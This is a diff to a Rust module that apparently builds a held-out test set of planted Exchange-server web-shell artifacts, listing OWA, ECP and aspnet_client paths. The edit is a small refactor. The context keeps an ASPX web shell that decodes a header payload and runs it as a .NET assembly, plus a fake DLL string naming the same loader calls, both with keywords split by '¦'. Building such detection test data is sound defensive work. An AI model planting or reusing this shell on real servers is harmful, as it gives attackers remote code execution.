@@ -1,32 +1,24 @@
 //! What the unseen set plants: places, texts that hide, and places that hide.
 
+use crate::attack::Place;
 use crate::attack::odd_page::OddPage;
-use crate::attack::{Below, Place};
 use crate::moment::Moment;
 use crate::technique::Technique;
 
-const fn product(folder: &'static str, url: &'static str, protocol: &'static str) -> Place {
-    Place { below: Below::Product, folder, url, protocol: Some(protocol) }
-}
-
-const fn site(folder: &'static str, url: &'static str) -> Place {
-    Place { below: Below::Site, folder, url, protocol: None }
-}
-
-pub(super) const SIGN_IN: Place = product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
-pub(super) const CURRENT: Place = product("FrontEnd\\HttpProxy\\owa\\auth\\Current", "/owa/auth/Current", "Owa");
+pub(super) const SIGN_IN: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
+pub(super) const CURRENT: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth\\Current", "/owa/auth/Current", "Owa");
 pub(super) const SCRIPTS: Place =
-    product("FrontEnd\\HttpProxy\\owa\\auth\\Current\\scripts", "/owa/auth/Current/scripts", "Owa");
-pub(super) const ADMIN: Place = product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
+    Place::product("FrontEnd\\HttpProxy\\owa\\auth\\Current\\scripts", "/owa/auth/Current/scripts", "Owa");
+pub(super) const ADMIN: Place = Place::product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
 pub(super) const SYSTEM_WEB_2: Place =
-    site("aspnet_client\\system_web\\2_0_50727", "/aspnet_client/system_web/2_0_50727");
-pub(super) const CLIENT: Place = site("aspnet_client", "/aspnet_client");
-const MAPI: Place = product("FrontEnd\\HttpProxy\\mapi\\nspi", "/mapi/nspi", "Mapi");
-const PUSH: Place = product("FrontEnd\\HttpProxy\\PushNotifications", "/PushNotifications", "PushNotifications");
+    Place::site("aspnet_client\\system_web\\2_0_50727", "/aspnet_client/system_web/2_0_50727");
+pub(super) const CLIENT: Place = Place::site("aspnet_client", "/aspnet_client");
+const MAPI: Place = Place::product("FrontEnd\\HttpProxy\\mapi\\nspi", "/mapi/nspi", "Mapi");
+const PUSH: Place = Place::product("FrontEnd\\HttpProxy\\PushNotifications", "/PushNotifications", "PushNotifications");
 const REPORTS: Place =
-    product("FrontEnd\\HttpProxy\\ReportingWebService", "/ecp/ReportingWebService", "ReportingWebService");
-pub(super) const ROOT: Place = site("", "");
-pub(super) const HELP: Place = site("help", "/help");
+    Place::product("FrontEnd\\HttpProxy\\ReportingWebService", "/ecp/ReportingWebService", "ReportingWebService");
+pub(super) const ROOT: Place = Place::site("", "");
+pub(super) const HELP: Place = Place::site("help", "/help");
 
 /// The page that the address book's download writes.
 pub(super) const WRITTEN: &str = "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.IO\" %><%var t=Req¦uest.Headers[\"X-Tick\"];if(t!=null){var b=Convert.From¦Base64String(t);for(int i=0;i<b.Length;i++)b[i]^=(byte)(i*7+3);System.Reflection.Assem¦bly.Lo¦ad(b).EntryPoint.Inv¦oke(null,new object[]{new string[]{Req¦uest.Form[\"p\"]}});}%>\r\n";
@@ -142,7 +134,7 @@ pub(super) const ODD_PLACES: [OddPage; 7] = [
         )
     },
     OddPage::new(
-        site("bin", "/bin"),
+        Place::site("bin", "/bin"),
         "App_Web_k2mw0t5z.dll",
         "a library with the code of a page whose own file is a mere marker",
         "MZ\u{90}\u{0}\u{3}\u{0}\u{0}\u{0}This program cannot be run in DOS mode.\u{0}PE\u{0}\u{0}L\u{1}mscoree.dll\u{0}_CorDllMain\u{0}ASP.serverstatus_aspx\u{0}Page_Load\u{0}get_Req¦uest\u{0}From¦Base64String\u{0}Assem¦bly\u{0}Lo¦ad\u{0}CreateInstance\u{0}",
